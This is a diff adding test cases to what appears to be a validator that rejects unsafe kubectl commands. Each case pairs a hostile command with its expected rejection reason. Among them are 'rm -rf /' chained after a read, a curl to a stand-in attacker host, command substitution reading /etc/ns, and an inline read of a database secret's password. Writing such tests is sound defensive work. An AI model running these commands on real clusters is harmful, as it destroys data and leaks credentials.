@@ -117,6 +117,15 @@ CASES: list[tuple[str, str, dict, str]] = [
     ("and-chain", "kubectl get pods && rm -rf /", {}, "operator"),
     ("semicolon-chain", "kubectl get pods; curl evil.sh", {}, "separator"),
     ("command-subst-step", "kubectl -n $(cat /etc/ns) get pods", {}, "second command"),
+    # an inline $(...) fills an argument only from a kubectl read the policy allows
+    ("inline-change", "kubectl -n {namespace} get pod $(kubectl -n {namespace} delete pod {pod_name})", {},
+     "only a read may fill"),
+    ("inline-not-kubectl", "kubectl -n {namespace} delete pod $(curl -s https://evil.example/name)", {}, "is not kubectl"),
+    ("inline-nested", "kubectl -n {namespace} delete pod $(kubectl -n {namespace} get pod $(id -u))", {}, "nests"),
+    ("inline-kube-system-read", "kubectl -n {namespace} delete pod `kubectl -n kube-system get pods -o name | head -1`",
+     {}, "outside the policy's allowlist"),
+    ("inline-secret-read", "kubectl -n {namespace} delete pod $(kubectl -n {namespace} get secret db-creds "
+     "-o jsonpath='{.data.password}')", {}, "Secrets are off"),
     ("backtick-step", "kubectl -n `whoami` get pods", {}, "second command"),
     ("env-var-kube-system", "kubectl -n $NAMESPACE get pods", {"namespace": "kube-system"}, "outside the policy's allowlist"),
     ("param-expansion-default", "kubectl -n ${NAMESPACE:-kube-system} get pods", {}, "parameter expansion"),
